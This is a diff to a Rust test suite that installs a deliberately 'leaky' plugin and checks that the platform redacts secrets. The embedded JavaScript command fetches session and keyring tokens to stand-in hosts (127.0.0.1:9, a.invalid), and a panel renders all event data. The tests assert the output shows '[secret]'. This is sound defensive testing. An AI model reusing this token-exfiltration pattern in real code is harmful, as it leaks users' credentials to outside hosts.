@@ -111,6 +111,14 @@ hooks:
   - {type: activate, function: on_activate}
 tags:
   - {name: seen, description: Was seen.}
+commands:
+  - {name: tell, namespace: leaky, description: Tells., surfaces: [{surface: discussions}], function: command}
+snap_kit_actions:
+  - {name: press, function: panel}
+snap_components:
+  - {name: panel, surface: issue, initializer: panel, snap_kit_action_name: press}
+operations:
+  - {name: Tell, description: Tells., slug: tell, function: command, type: action}
 ";
 
 const SAY_IT_ALL: &str = "
@@ -165,6 +173,30 @@ export const run = async ([event]) => {
   await say(event);
   if (event.input_data.global_values.fails) throw new Error(JSON.stringify(event.input_data));
   return { status: 'active', inputs_values: { kept: event.input_data.keyrings.token } };
+};";
+
+/// Calls out with its tokens where nobody listens, and answers with all that it was given.
+const COMMAND: &str = "
+export const run = async ([event]) => {
+  const { actor_session_token: actor } = event.context.secrets;
+  const { token } = event.input_data.keyrings;
+  if (event.payload.command_id && !actor) throw 'there is no token for who gave the command';
+  for (const secret of [actor ?? 'nobody', token]) {
+    const text = encodeURIComponent(secret);
+    for (const url of [`http://${text}:${text}@127.0.0.1:9/a/${text}?${text}#${text}`, `http://a.invalid/${text}`]) {
+      await fetch(url, { method: 'POST', headers: { a: text } }).catch((error) => console.log(error));
+    }
+  }
+  console.log(event);
+  return { output: { values: [event] }, port_outputs: [actor] };
+};";
+
+/// Draws all that it was given.
+const PANEL: &str = "
+export const run = async ([event]) => {
+  if (event.payload.action && !event.context.secrets.actor_session_token) throw 'nobody pressed it';
+  const text = JSON.stringify(event);
+  return { snap_kit_body: { body: { snaps: [{ type: 'plain_text', text }] } } };
 };";
 
 /// Where a secret was found that must not be there.
@@ -401,6 +433,28 @@ fn run_all(bench: &Bench, installed: &Installed) {
         let answer = bench.ask("functions.call", &call);
         assert!(answer.text().contains("[secret]"), "{how}: {}", answer.text());
     }
+    let command = json!({ "namespace": "leaky", "name": "tell", "parameters": "all" });
+    let operation = json!({ "snap_in": installed.id, "slug": "tell" });
+    for (call, parameters) in [("commands.execute", command), ("operations.execute", operation)] {
+        let answer = bench.call(call, &parameters);
+        assert!(answer["error"].is_null(), "{answer}");
+        let requests = answer["requests"].as_array().expect("what it called out to");
+        let target = |at: usize| requests[at]["target"].as_str().expect("a text");
+        assert_eq!(requests.len(), 4, "{answer}");
+        assert_eq!(target(2), "http://127.0.0.1:9/a/[secret]", "{answer}");
+        assert_eq!(target(3), "http://a.invalid/[secret]", "{answer}");
+    }
+    let panel = json!({ "snap_in": installed.id, "name": "panel" });
+    let drawn = bench.call("snap-components.render", &panel);
+    let press = json!({
+        "id": format!("{}/snap-kit-actions/press", installed.id),
+        "actions": [{ "action_id": "press" }],
+        "from": { "snap_component": "panel" },
+    });
+    let pressed = bench.call("snap-kit-action.execute.deferred", &press);
+    for answer in [&drawn, &pressed["results"][0]] {
+        assert!(answer["displayed"].to_string().contains("[secret]"), "{answer}");
+    }
 }
 
 /// Makes every call that reads, with everything that can be named.
@@ -422,10 +476,12 @@ fn read_everything(bench: &Bench, installed: &Installed) {
         collect_ids(&bench.ask(list, &json!({ "limit": 500 })).json(), &mut ids);
     }
     let mut bodies = vec![json!({}), json!({ "snap_in": installed.id, "package": "leaky" })];
-    for name in ["token", "key", "fields", "account", "checked", "signing", "app", "mine"] {
+    for name in ["token", "key", "fields", "account", "checked", "signing", "app", "mine", "panel"]
+    {
         bodies.push(json!({ "snap_in": installed.id, "name": name }));
         bodies.push(json!({ "snap_in": installed.id, "name": name, "user": "ada" }));
     }
+    bodies.push(json!({ "id": format!("{}/commands/leaky/tell", installed.id) }));
     for id in &ids {
         bodies.push(json!({ "id": id }));
         bodies.push(json!({ "id": id, "version": snap_in["version"] }));
@@ -470,7 +526,9 @@ fn secrets_are_nowhere_but_where_they_are_for() {
     let code = |it: &str| format!("{SAY_IT_ALL}{it}");
     let parts = Parts::new("leaky", SIGNED, &code(WORK))
         .with_sections(&SECTIONS.replace("ADDRESS", &server.to_string()))
-        .with_function("on_activate", &code(ON_ACTIVATE));
+        .with_function("on_activate", &code(ON_ACTIVATE))
+        .with_function("panel", &code(PANEL))
+        .with_function("command", &code(COMMAND));
     let installed = bench.daemon.install_draft(&parts);
     plant(&bench, &installed);
 
